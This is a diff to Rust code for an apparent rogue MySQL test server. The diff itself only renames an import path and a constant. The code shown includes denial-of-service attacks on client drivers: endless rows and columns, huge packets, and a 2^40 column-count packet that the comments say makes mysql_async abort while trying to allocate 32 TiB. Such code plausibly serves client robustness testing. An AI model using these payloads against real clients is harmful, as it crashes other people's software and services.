@@ -7,7 +7,7 @@ use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
 use super::recording::ClientRecording;
 use super::{RogueAttack, responses};
 use crate::fake_server::packets;
-use crate::protocol::{MAX_PAYLOAD_BYTES, read_packet, write_packet, write_packet_header};
+use crate::mysql_packets::{MAX_PAYLOAD_BYTES, read_packet, write_packet, write_packet_header};
 
 const ATTACK_CHUNK_BYTES: usize = 64 << 10;
 
@@ -31,7 +31,7 @@ pub(super) async fn run_attack<S: AsyncRead + AsyncWrite + Unpin>(
         RogueAttack::HugePacket { bytes } => send_huge_row(stream, columns, *bytes, recording).await?,
         RogueAttack::EndlessRows => send_endless_rows(stream, columns, recording).await?,
         RogueAttack::EndlessColumns => {
-            write_packet(stream, 1, &ADVERTISED_COLUMN_COUNT_PACKET).await?;
+            write_packet(stream, 1, &LARGE_COLUMN_COUNT_PACKET).await?;
             let column = packets::encode_column_definition(&"c".repeat(64));
             send_packet_repeatedly(stream, 2, &column, recording).await?;
         }
@@ -47,7 +47,7 @@ pub(super) async fn run_attack<S: AsyncRead + AsyncWrite + Unpin>(
 
 /// Column count 2^23 as a length-encoded integer.
 /// MySQL drivers can allocate memory for 2^23 columns, so they start to read the column definitions.
-const ADVERTISED_COLUMN_COUNT_PACKET: [u8; 4] = [0xfd, 0, 0, 0x80];
+const LARGE_COLUMN_COUNT_PACKET: [u8; 4] = [0xfd, 0, 0, 0x80];
 /// Column count 2^40 as a length-encoded integer.
 /// For 2^40 columns, `mysql_async` tries to allocate 32 TiB, which aborts the client process.
 const HUGE_COLUMN_COUNT_PACKET: [u8; 9] = [0xfe, 0, 0, 0, 0, 0, 1, 0, 0];
